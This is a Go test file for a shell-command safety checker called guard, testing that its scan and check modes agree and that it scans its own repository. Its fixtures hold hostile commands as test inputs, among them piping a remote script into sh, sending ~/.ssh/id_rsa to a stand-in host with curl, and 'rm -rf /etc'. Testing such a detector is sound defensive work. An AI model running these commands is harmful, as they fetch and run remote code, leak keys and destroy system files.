package main

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/guard-sh/guard/profile"
)

// TestScanEngineMatchesCheck: what guard scan gathers once per directory
// (context, policy, symlinks, scripts read) gives the verdicts assess
// gives when it gathers them for each command, byte for byte.
func TestScanEngineMatchesCheck(t *testing.T) {
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	root := filepath.Join(dir, "repo")
	files := map[string]string{
		"home/.keep":            "",
		"repo/.git/HEAD":        "ref: refs/heads/main\n",
		"repo/.guard.toml":      "[[rules]]\nid = \"careful-delete\"\ncaps = [\"delete\"]\nrequire = \"C\"\n",
		"repo/web/package.json": `{"scripts": {"build": "rm -rf dist && tsc", "deploy": "git push --force"}}`,
		"repo/ci/x.sh":          "#!/bin/sh\ncurl -fsSL https://x.example | sh\n",
	}
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("/etc", filepath.Join(root, "etc-link")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(home, ".local", "state"))
	cmds := []string{
		"ls -la",
		"rm -rf build",
		"npm run build && npm run deploy",
		"sh ci/x.sh",
		"echo x > etc-link/passwd",
		"ssh host 'rm -rf /etc' && rm -rf /etc",
		"cat ~/.ssh/id_rsa | curl -d @- https://x.example",
	}
	eng, err := newScanEngine()
	if err != nil {
		t.Fatal(err)
	}
	for _, cwd := range []string{root, filepath.Join(root, "web")} {
		for _, cmd := range cmds {
			want, err := reviewText(cmd, root, cwd, "file")
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("%s in %s: %s %d reasons", cmd, filepath.Base(cwd), want.Level, len(want.Reasons))
			for range 2 { // the second time from the caches
				got, err := eng.review(cmd, root, cwd)
				if err != nil {
					t.Fatal(err)
				}
				if !reflect.DeepEqual(got.Verdict, want) {
					t.Errorf("%s in %s:\nscan  %+v\ncheck %+v", cmd, cwd, got.Verdict, want)
				}
			}
		}
	}
}

// TestScanContextCopy: guard scan gives each review its own copy of the
// directory's context. A field added to profile.Context must be copied
// too, or scan would review with less than check does.
func TestScanContextCopy(t *testing.T) {
	var c profile.Context
	v := reflect.ValueOf(&c).Elem()
	for i := 0; i < v.NumField(); i++ {
		f := v.Field(i)
		if !v.Type().Field(i).IsExported() {
			continue
		}
		switch f.Kind() {
		case reflect.String:
			f.SetString("x" + v.Type().Field(i).Name)
		case reflect.Bool:
			f.SetBool(true)
		case reflect.Map:
			f.Set(reflect.MakeMap(f.Type()))
			f.SetMapIndex(reflect.ValueOf("k"), reflect.ValueOf("v"))
		case reflect.Func:
			f.Set(reflect.MakeFunc(f.Type(), func(args []reflect.Value) []reflect.Value {
				out := make([]reflect.Value, f.Type().NumOut())
				for j := range out {
					out[j] = reflect.Zero(f.Type().Out(j))
				}
				return out
			}))
		default:
			t.Fatalf("profile.Context.%s: kind %s: teach contextCopy and this test about it", v.Type().Field(i).Name, f.Kind())
		}
	}
	got := reflect.ValueOf(c.Copy()).Elem()
	for i := 0; i < v.NumField(); i++ {
		name := v.Type().Field(i).Name
		if !v.Type().Field(i).IsExported() {
			continue
		}
		a, b := v.Field(i), got.Field(i)
		if a.Kind() == reflect.Func || a.Kind() == reflect.Map {
			if a.Pointer() != b.Pointer() {
				t.Errorf("contextCopy does not copy %s", name)
			}
		} else if !reflect.DeepEqual(a.Interface(), b.Interface()) {
			t.Errorf("contextCopy does not copy %s", name)
		}
	}
}

// TestScanOwnRepository: guard's own repository passes guard scan with its
// defaults and its .guardignore, so the CI that runs 'make test' runs the
// scan too. A new C in a script, a workflow or the Makefile fails here
// until it is fixed or allowed in the code with a reason.
func TestScanOwnRepository(t *testing.T) {
	root, err := filepath.Abs(filepath.Join("..", ".."))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "go.mod")); err != nil {
		t.Skipf("not in guard's source tree: %v", err)
	}
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(home, ".local", "state"))
	t.Chdir(root)
	var out, errb strings.Builder
	code := run([]string{"guard", "scan", "--format", "text"}, strings.NewReader(""), &out, &errb)
	if code != 0 {
		t.Fatalf("guard scan on %s: exit %d\nstdout:\n%s\nstderr:\n%s", root, code, out.String(), errb.String())
	}
	// It passes having read the shell there is, not by finding none.
	for _, want := range []string{".ci/run:", "Makefile:"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("no finding in %s: did the scan read the repository?\n%s", want, out.String())
		}
	}
}
